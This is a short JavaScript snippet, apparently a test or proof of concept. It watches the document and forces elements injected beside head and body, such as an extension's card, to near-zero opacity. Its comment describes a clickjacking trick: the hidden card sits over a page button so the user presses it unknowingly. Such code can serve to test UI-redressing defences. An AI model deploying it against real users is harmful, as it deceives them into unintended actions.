// Makes the card invisible and lays it over a button of the page: the user presses that one.
new MutationObserver(() => {
  for (const host of document.documentElement.children) {
    if (host.localName === 'head' || host.localName === 'body') continue;
    host.style.setProperty('opacity', '0.001', 'important');
    window.isReady = true;
  }
}).observe(document, { childList: true, subtree: true });
